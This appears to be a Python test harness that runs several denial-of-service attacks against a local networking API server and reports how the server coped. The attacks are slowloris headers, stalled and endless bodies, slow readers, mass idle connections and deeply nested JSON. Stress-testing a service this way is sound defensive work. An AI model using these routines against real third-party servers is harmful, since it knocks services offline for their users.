"""Ways to hurt a server.  Rule: each holds what it can for as long as it is let, and counts what was let."""

import asyncio
import contextlib
import socket
from collections.abc import AsyncIterator, Callable, Coroutine
from contextlib import asynccontextmanager
from typing import Any

Stream = tuple[asyncio.StreamReader, asyncio.StreamWriter]
Attack = Callable[[int, str, float], Coroutine[Any, Any, str]]
"""``attack(port, token, seconds)`` returns what came of it, in a few words."""

LIST = "/networking/v2.0/networks"


def head(token: str, method: str = "GET", path: str = LIST, *more: str) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", "Host: x", f"X-Auth-Token: {token}", *more]
    return ("\r\n".join(lines) + "\r\n").encode()


@asynccontextmanager
async def many(port: int, count: int, receive_buffer: int = 0) -> AsyncIterator[list[Stream]]:
    """Open connections, as many as are let, and close them in the end."""
    held: list[Stream] = []
    for _ in range(count):
        plain = socket.socket()
        plain.setblocking(False)
        if receive_buffer:
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        try:
            await asyncio.get_running_loop().sock_connect(plain, ("127.0.0.1", port))
            held.append(await asyncio.open_connection(sock=plain, limit=1 << 16))
        except OSError:
            plain.close()
            break
    try:
        yield held
    finally:
        for _, writer in held:
            writer.close()


async def still_open(held: list[Stream]) -> int:
    """Return how many connections the server has not closed."""
    open_ones = 0
    for reader, writer in held:
        with contextlib.suppress(TimeoutError, ConnectionError):
            try:
                while await asyncio.wait_for(reader.read(1 << 16), 0.005):
                    pass
                continue
            except TimeoutError:
                open_ones += not writer.is_closing()
    return open_ones


async def idle(port: int, token: str, seconds: float) -> str:
    """Thousands of connections that say nothing."""
    async with many(port, 5000) as held:
        await asyncio.sleep(seconds)
        return f"{len(held):,} opened, {await still_open(held):,} left"


async def slow_heads(port: int, token: str, seconds: float) -> str:
    """Heads that come a few bytes at a time (slowloris)."""
    async with many(port, 1000) as held:
        for _, writer in held:
            writer.write(head(token))
        until = asyncio.get_running_loop().time() + seconds
        while asyncio.get_running_loop().time() < until:
            for _, writer in held:
                if not writer.is_closing():
                    writer.write(b"X-A: b\r\n")
            await asyncio.sleep(1)
        return f"{len(held):,} opened, {await still_open(held):,} left"


async def slow_bodies(port: int, token: str, seconds: float) -> str:
    """Bodies that stop after their first byte."""
    async with many(port, 900) as held:
        for _, writer in held:
            writer.write(head(token, "POST", LIST, "Content-Type: application/json", "Content-Length: 1000") + b"\r\n{")
        await asyncio.sleep(seconds)
        return f"{len(held):,} opened, {await still_open(held):,} left"


async def slow_readers(port: int, token: str, seconds: float) -> str:
    """Large answers, asked for many times and read no further than a small buffer."""
    async with many(port, 200, receive_buffer=4096) as held:
        for _, writer in held:
            for _ in range(20):
                writer.write(head(token, "GET", "/openapi.json") + b"\r\n")
        await asyncio.sleep(seconds)
        return f"{len(held):,} times 20 answers of 0.5 MB asked for"


async def _flood(port: int, first: bytes, piece: bytes, connections: int, seconds: float) -> int:
    """Send pieces as fast as they are taken; return how many bytes were."""
    sent = 0
    async with many(port, connections) as held:

        async def pour(stream: Stream) -> None:
            nonlocal sent
            _, writer = stream
            with contextlib.suppress(ConnectionError):
                writer.write(first)
                while not writer.is_closing():
                    writer.write(piece)
                    await writer.drain()
                    sent += len(piece)
                    await asyncio.sleep(0.001)

        pouring = asyncio.gather(*(pour(stream) for stream in held))
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(pouring, seconds)
    return sent


async def huge_bodies(port: int, token: str, seconds: float) -> str:
    """JSON bodies without an end."""
    first = head(token, "POST", LIST, "Content-Type: application/json", "Transfer-Encoding: chunked") + b"\r\n"
    sent = await _flood(port, first, b"10000\r\n" + b" " * 0x10000 + b"\r\n", 20, seconds)
    return f"{sent >> 20:,} MiB taken and thrown away"


async def huge_heads(port: int, token: str, seconds: float) -> str:
    """One header without an end."""
    sent = await _flood(port, head(token) + b"X-A: ", b"a" * 65536, 50, seconds)
    return f"{sent >> 20:,} MiB taken"


async def hostile_documents(port: int, token: str, seconds: float) -> str:
    """Deep JSON and thousands of parameters, as fast as they are answered."""
    deep = b'{"a":' * 100_000 + b"1" + b"}" * 100_000
    query = "&".join(f"name={number}" for number in range(900))
    answered: dict[str, int] = {}
    requests = (
        head(token, "POST", LIST, "Content-Type: application/json", f"Content-Length: {len(deep)}") + b"\r\n" + deep,
        head(token, "GET", f"{LIST}?{query}") + b"\r\n",
        head(token, "GET", f"{LIST}?{query}&{query}") + b"\r\n",
    )

    async def ask(first: int) -> None:
        turn = first
        while True:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(requests[turn % 3])
            status = (await reader.readline())[9:12].decode()
            answered[status] = answered.get(status, 0) + 1
            writer.close()
            turn += 1

    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(asyncio.gather(*(ask(number) for number in range(8))), seconds)
    return ", ".join(f"{count:,} times {status}" for status, count in sorted(answered.items()))


ATTACKS: dict[str, Attack] = {
    "5,000 idle connections": idle,
    "1,000 slow heads": slow_heads,
    "900 bodies that stop": slow_bodies,
    "200 clients that read nothing": slow_readers,
    "20 endless JSON bodies": huge_bodies,
    "50 endless headers": huge_heads,
    "deep JSON, many parameters": hostile_documents,
}
